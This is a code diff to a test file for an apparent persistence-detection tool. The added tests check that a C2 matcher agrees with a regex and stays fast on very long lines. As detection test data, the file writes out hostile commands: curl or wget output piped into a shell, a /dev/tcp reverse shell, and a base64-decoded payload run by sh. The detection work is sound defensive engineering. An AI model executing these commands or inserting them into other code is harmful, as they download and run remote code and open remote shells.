@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { parseCronLine } from '../../src/persistence/cron';
-import { describeSchedule, hiddenDir, judgeCommand, judgeSchedule } from '../../src/persistence/judge';
+import { c2Match, C2_RE, describeSchedule, hiddenDir, judgeCommand, judgeSchedule } from '../../src/persistence/judge';
 import { analyseCommand } from '../../src/persistence/shell';
 import { execCommand, parseUnit } from '../../src/persistence/systemd';
 import { RULES } from '../../src/persistence/rules';
@@ -32,6 +32,18 @@ describe('judgeCommand', () => {
     expect(judged('curl http://198.51.100.7/x.sh | bash')).toEqual(['C2', 'C3']);
     expect(judged('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')).toEqual(['C2']);
     expect(judged('echo ZWNobyBoaQ== | base64 --decode | sh')).toContain('C4');
+  });
+
+  it('C2 is found as the catalogue\'s pattern finds it, in one pass over a line of any length', () => {
+    const lines = [
+      'wget -q -O - http://195.3.146.118/spr.sh | sh > /dev/null 2>&1', 'curl -fsSL http://x/y|sudo bash', 'a; curl x | python3 -',
+      'curl x > f; cat f | sh', 'curl x || sh', 'wget x | tee f', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'echo | sh',
+      'FETCH http://x | KSH', 'curl a | perl; wget b | ruby',
+    ];
+    for (const l of lines) expect(c2Match(l)?.[0] ?? null, l).toBe(C2_RE.exec(l)?.[0] ?? null);
+    // a user's start-up file with 80,000 downloader names and no pipe: the pattern alone took 24 s on it
+    expect(c2Match('curl '.repeat(80_000))).toBeNull();
+    expect(judged('curl '.repeat(80_000) + '| sh')).toContain('C2');
   });
 
   it('leaves ordinary jobs alone', () => {
